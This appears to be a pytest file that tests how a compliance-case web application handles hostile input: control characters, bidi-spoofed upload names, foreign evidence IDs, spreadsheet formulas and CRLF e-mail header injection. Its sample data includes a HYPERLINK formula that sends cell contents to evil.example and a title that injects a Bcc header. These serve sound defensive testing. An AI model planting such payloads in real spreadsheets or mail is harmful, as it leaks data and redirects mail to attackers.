"""The attack on the running service, the input half (issue 17): text that would break a document, an e-mail header,
a file name or a spreadsheet; evidence and answers that reach beyond the case; malformed web forms."""

from __future__ import annotations

import csv
import io
import zipfile
from email import message_from_bytes
from email.policy import default

import pytest
import sqlalchemy as sa

from tests.helpers.factories import auth, declaration
from tests.helpers.smtp import smtp_inbox
from tests.helpers.web import People, csrf_token

HYPERLINK = '=HYPERLINK("https://evil.example/?x="&D2&E2,"查看详情")'
PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


@pytest.fixture
def exporter(factory):
    user = factory.user("enterprise")
    return user, auth(factory.token(user))


def _create(client, exporter, title="输入测试", **decl_overrides):
    user, headers = exporter
    body = declaration(user.organisation.uscc, pi=150_000)  # a standard contract: key points to answer
    for path, value in decl_overrides.items():
        *parents, last = path.split("/")
        target = body
        for part in parents:
            target = target[int(part)] if part.isdigit() else target[part]
        target[last] = value
    return client.post("/api/v1/cases", headers=headers, json={"title": title, "declaration": body})


def _errors(response) -> dict[str, dict]:
    return {e["path"]: e for e in response.json["errors"]}


# --- control characters ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("title", "code"), [("标题\x0b", "control_character"), ("第一行\r\n第二行", "line_break"),
                                             ("tab\there", "line_break"), ("nul\x00", "control_character"),
                                             ("c1\x85", "control_character")])
def test_a_title_with_control_characters_or_line_breaks_is_422_with_its_path(client, exporter, title, code):
    response = _create(client, exporter, title=title)
    assert response.status_code == 422, response.json
    error = _errors(response)["title"]
    assert error["code"] == code and error["message_zh"] and error["message_en"] != error["message_zh"]


def test_declaration_text_with_a_control_character_is_422_with_its_path(client, exporter):
    response = _create(client, exporter, **{"transfers/0/recipient/name": "Example\x07 GmbH"})
    assert response.status_code == 422, response.json
    assert _errors(response)["transfers/0/recipient/name"]["code"] == "control_character"


def _case(client, exporter):
    response = _create(client, exporter)
    assert response.status_code == 201, response.json
    return response.json


def _answer(client, exporter, case, **answer):
    return client.put(f"/api/v1/cases/{case['id']}/self-assessment", headers=exporter[1],
                      json={"version": case["version"], "answers": [{"key_point": "PIA-1", **answer}]})


def test_an_answer_with_a_control_character_is_422_and_crlf_is_kept_as_lf(client, exporter):
    case = _case(client, exporter)
    response = _answer(client, exporter, case, answer="目的\x01明确")
    assert response.status_code == 422, response.json
    assert _errors(response)["answers/0/answer"]["code"] == "control_character"
    response = _answer(client, exporter, case, answer="第一行\r\n第二行", measures="加密\r传输")
    assert response.status_code == 200, response.json
    saved = {a["key_point"]: a for a in response.json["answers"]}["PIA-1"] if "answers" in response.json else None
    from xborder.cases.models import Case
    from xborder.extensions import db

    stored = {a["key_point"]: a for a in db.session.get(Case, case["id"]).answers}["PIA-1"]
    assert (stored["answer"], stored["measures"]) == ("第一行\n第二行", "加密\n传输")
    assert saved is None or saved["answer"] == "第一行\n第二行"


def test_a_transition_comment_with_a_control_character_is_422(client, exporter):
    case = _case(client, exporter)
    response = client.post(f"/api/v1/cases/{case['id']}/transitions", headers=exporter[1],
                           json={"action": "submit", "version": case["version"], "comment": "请\x0b审核"})
    assert response.status_code == 422
    assert _errors(response)["comment"]["code"] == "control_character"


# --- answers and evidence stay within the case ---------------------------------------------------------------------


def _upload(client, exporter, case, name="evidence.pdf", data=PDF):
    return client.post(f"/api/v1/cases/{case['id']}/evidence", headers=exporter[1],
                       content_type="multipart/form-data", data={"file": (io.BytesIO(data), name)})


@pytest.mark.parametrize("name", ["invoice\u202egpj.exe", "a\u2066b.pdf", "bell\x07.pdf", "nul\x00.pdf"])
def test_evidence_file_names_with_bidi_overrides_or_control_characters_are_422(client, exporter, name):
    case = _case(client, exporter)
    response = _upload(client, exporter, case, name=name)
    assert response.status_code == 422, response.json
    assert _errors(response)["file"]["code"] in ("bidi_override", "line_break", "control_character")


def test_unknown_answer_keys_and_foreign_evidence_ids_are_refused(client, factory, exporter):
    case = _case(client, exporter)
    other_user = factory.user("enterprise")
    other_headers = auth(factory.token(other_user))
    other_case = _case(client, (other_user, other_headers))
    foreign = _upload(client, (other_user, other_headers), other_case).json["id"]
    own = _upload(client, exporter, case).json["id"]
    case = client.get(f"/api/v1/cases/{case['id']}", headers=exporter[1]).json
    response = _answer(client, exporter, case, answer="有", signed_by="someone else")
    assert response.status_code == 422 and _errors(response)["answers/0/signed_by"]["code"] == "unknown_field"
    response = _answer(client, exporter, case, answer="有", evidence=[foreign, "x", 10**12])
    assert response.status_code == 422
    assert {p for p, e in _errors(response).items() if e["code"] == "unknown_evidence"} == {
        "answers/0/evidence/0", "answers/0/evidence/1", "answers/0/evidence/2"}
    response = _answer(client, exporter, case, answer="有", evidence=[own])
    assert response.status_code == 200, response.json


def test_evidence_is_refused_once_the_case_left_the_owner(client, db, factory, exporter):
    user, headers = exporter
    for status in ("third_party_review", "approved", "rejected", "withdrawn"):
        case = factory.case(user.organisation, status=status, answers=[], answers_revision=0,
                            declaration_revision=1)
        response = _upload(client, exporter, {"id": case.id})
        assert response.status_code == 422, (status, response.json)
        assert _errors(response)["status"]["code"] == "not_editable"


# --- exports ---------------------------------------------------------------------------------------------------------


def test_case_list_exports_write_formulas_as_text(client, exporter):
    assert _create(client, exporter, title=HYPERLINK).status_code == 201
    xlsx = client.get("/api/v1/inventory/exports/cases?format=xlsx", headers=exporter[1])
    assert xlsx.status_code == 200
    sheet = zipfile.ZipFile(io.BytesIO(xlsx.data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "HYPERLINK" in sheet  # a string cell, never a formula
    from openpyxl import load_workbook

    cells = [c.value for row in load_workbook(io.BytesIO(xlsx.data)).active.iter_rows() for c in row]
    assert HYPERLINK in cells
    text = client.get("/api/v1/inventory/exports/cases?format=csv", headers=exporter[1]).data.decode("utf-8-sig")
    titles = [row[1] for row in csv.reader(io.StringIO(text))][1:]
    assert titles == ["'" + HYPERLINK]


def test_a_title_stored_before_the_checks_still_exports(client, factory, exporter):
    user, headers = exporter
    factory.case(user.organisation, title="旧\x0b标题", status="draft", answers=[], answers_revision=0,
                 declaration_revision=1)
    for fmt in ("xlsx", "csv"):
        assert client.get(f"/api/v1/inventory/exports/cases?format={fmt}", headers=headers).status_code == 200


@pytest.mark.parametrize("value", ["=1+2", "+1", "-1+1", "@SUM(A1)", "\tx", "\rx"])
def test_every_formula_prefix_is_neutralised(value):
    from openpyxl import Workbook

    from xborder.core.text import spreadsheet_cell, xlsx_row

    assert spreadsheet_cell(value).startswith("'")
    assert spreadsheet_cell(12) == 12 and spreadsheet_cell("普通") == "普通"
    sheet = Workbook(write_only=True).create_sheet()
    (cell,) = xlsx_row(sheet, [value])
    assert cell.data_type == "s"


# --- e-mail subjects ----------------------------------------------------------------------------------------------


def test_a_title_with_crlf_never_reaches_a_subject_and_holds_up_nothing(app, db, factory):
    from xborder.notifications.mail import send_pending_emails
    from xborder.notifications.operations import notify

    org = factory.organisation()
    alice = factory.user(organisation=org, email="alice@example.test")
    case = factory.case(org, title="旧标题")
    notify(case, "test", ("标题\r\nBcc: evil@example.test", "Case X\r\nBcc: evil@example.test: submitted"), [alice])
    notify(case, "test", ("第二条", "second: ok"), [alice])
    with smtp_inbox(app) as inbox:
        assert send_pending_emails() == 2
    subjects = [message_from_bytes(m.content, policy=default)["Subject"] for m in inbox.messages]
    assert all("\n" not in s and "\r" not in s for s in subjects)
    assert any(s.endswith("Case X Bcc") for s in subjects)
    assert all(m.rcpt_tos == ["alice@example.test"] for m in inbox.messages)
    assert all(message_from_bytes(m.content, policy=default)["Bcc"] is None for m in inbox.messages)


# --- web forms -----------------------------------------------------------------------------------------------------


@pytest.fixture
def people(app, db):
    return People(app, db)


def test_a_malformed_version_on_the_web_forms_is_400_with_a_message(people):
    case = people.case()
    html = people.enterprise.get(f"/cases/{case.id}/self-assessment?kp=PIA-1").get_data(as_text=True)
    response = people.enterprise.post(f"/cases/{case.id}/self-assessment?kp=PIA-1", data={
        "csrf_token": csrf_token(html), "version": "abc", "answer": "回答"})
    assert response.status_code == 400 and "版本号" in response.get_data(as_text=True)
    html = people.enterprise.get(f"/cases/{case.id}/declaration").get_data(as_text=True)
    from tests.helpers.web import wizard_data

    response = people.enterprise.post(f"/cases/{case.id}/declaration", data=wizard_data(csrf_token(html),
                                                                                        version="abc"))
    assert response.status_code == 400 and "版本号" in response.get_data(as_text=True)
    submitted = people.submitted()
    html = people.assessor.get(f"/cases/{submitted.id}/review").get_data(as_text=True)
    response = people.assessor.post(f"/cases/{submitted.id}/review", data={
        "csrf_token": csrf_token(html), "version": "abc", "finding-PIA-1": "satisfied"})
    assert response.status_code == 400 and "版本号" in response.get_data(as_text=True)


def test_an_autosave_whose_answer_is_an_object_is_4xx(people):
    case = people.case()
    html = people.enterprise.get(f"/cases/{case.id}/self-assessment").get_data(as_text=True)
    body = {"key_point": "PIA-1", "version": case.version, "fields": {"answer": {"nested": "object"}}}
    response = people.enterprise.post(f"/cases/{case.id}/self-assessment/autosave", json=body,
                                      headers={"X-CSRFToken": csrf_token(html)})
    assert 400 <= response.status_code < 500
    assert case.answers == []


def test_a_web_comment_with_a_control_character_is_refused_in_words(people, db):
    from xborder.cases.models import Case

    case = people.case(answered=True)
    html = people.enterprise.get(f"/cases/{case.id}").get_data(as_text=True)
    response = people.enterprise.post(f"/cases/{case.id}/actions", data={
        "csrf_token": csrf_token(html), "action": "submit", "version": case.version, "comment": "请\x0b审核",
        "assessor_org_id": people.assessor_org_id}, follow_redirects=True)
    assert response.status_code == 422 and "控制字符" in response.get_data(as_text=True)
    assert db.session.scalar(sa.select(Case.status).where(Case.id == case.id)) == "draft"
